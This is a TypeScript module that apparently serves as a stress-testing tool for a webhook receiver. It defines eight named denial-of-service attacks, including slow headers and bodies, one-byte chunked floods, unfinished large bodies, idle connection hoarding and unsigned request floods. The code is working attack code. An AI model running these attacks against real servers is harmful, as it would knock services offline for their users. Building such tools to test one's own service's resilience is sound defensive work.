import type { Socket } from 'node:net';
import { keepOpen, send, type Tally, type Target } from './sockets.ts';

/** Starts an attack that goes on until the process ends. */
type Attack = (target: Target, size: AttackSize, tally: Tally) => void;

export interface AttackSize {
  readonly connections: number;
  /** Of the attacks with large bodies; default 1 MiB, the limit. */
  readonly bodyBytes?: number;
}

const MEBIBYTE = 1024 * 1024;
const head = (...lines: string[]) =>
  Buffer.from(['POST /webhooks/test HTTP/1.1', 'Host: receiver', ...lines, '', ''].join('\r\n'));
const CHUNKED = head('Transfer-Encoding: chunked');
const ONE_BYTE_CHUNKS = Buffer.from('1\r\nx\r\n'.repeat(10_000));
const BODY_PART = Buffer.alloc(64 * 1024, 'x');
const UNSIGNED = Buffer.concat([head('Content-Length: 200'), Buffer.alloc(200, 'x')]);
const DRIP_MS = 1_000;

/** The attacks by name. None of their requests is signed. */
export const ATTACKS = {
  /** Bodies of almost 1 MiB in chunks of one byte: six bytes on the wire for each byte of a body. */
  'one-byte-chunks': (target, { connections, bodyBytes = MEBIBYTE }, tally) =>
    keepOpen(target, connections, tally, (socket) => {
      const parts = Math.floor(bodyBytes / 10_000);
      stream(socket, tally, function* () {
        while (true) {
          yield CHUNKED;
          for (let part = 0; part < parts; part++) yield ONE_BYTE_CHUNKS;
          yield Buffer.from('0\r\n\r\n');
        }
      });
    }),

  /** Bodies of 1 MiB of which the last byte never comes. */
  'large-bodies': (target, { connections }, tally) =>
    keepOpen(target, connections, tally, (socket) =>
      stream(socket, tally, function* () {
        yield head(`Content-Length: ${MEBIBYTE}`);
        for (let part = 1; part < MEBIBYTE / BODY_PART.length; part++) yield BODY_PART;
        yield BODY_PART.subarray(1);
      }),
    ),

  /** Announces 1 MiB and sends nothing of it. */
  'announced-bodies': (target, { connections }, tally) =>
    keepOpen(target, connections, tally, (socket) => send(socket, head(`Content-Length: ${MEBIBYTE}`), tally)),

  /** One cheap request, then silence on a connection that is kept alive. */
  'idle-hoarding': (target, { connections }, tally) =>
    keepOpen(target, connections, tally, (socket) =>
      send(socket, Buffer.from('GET /healthz HTTP/1.1\r\nHost: receiver\r\n\r\n'), tally),
    ),

  /** Connections that never send anything. */
  'silent-sockets': (target, { connections }, tally) => keepOpen(target, connections, tally, () => {}),

  'slow-headers': (target, { connections }, tally) =>
    keepOpen(target, connections, tally, (socket) =>
      drip(socket, tally, Buffer.from('POST /webhooks/test HTTP/1.1\r\nHost: receiver\r\nX-Slow: ')),
    ),

  'slow-bodies': (target, { connections }, tally) =>
    keepOpen(target, connections, tally, (socket) => drip(socket, tally, head('Content-Length: 9999'))),

  /** Small unsigned requests, each sent when the one before was answered. */
  'unsigned-requests': (target, { connections }, tally) =>
    keepOpen(target, connections, tally, (socket) => {
      socket.on('data', () => send(socket, UNSIGNED, tally));
      send(socket, UNSIGNED, tally);
    }),
} satisfies Record<string, Attack>;
export type AttackName = keyof typeof ATTACKS;

/** Sends as fast as the other side reads. */
function stream(socket: Socket, tally: Tally, parts: () => Iterable<Buffer>): void {
  const iterator = parts()[Symbol.iterator]();
  const next = () => {
    while (!socket.destroyed) {
      const { done, value } = iterator.next();
      if (done === true || !send(socket, value, tally)) return;
    }
  };
  socket.on('drain', next);
  next();
}

/** Sends the beginning, then one byte each second. */
function drip(socket: Socket, tally: Tally, beginning: Buffer): void {
  send(socket, beginning, tally);
  const timer = setInterval(() => send(socket, Buffer.from('x'), tally), DRIP_MS);
  socket.once('close', () => clearInterval(timer));
}
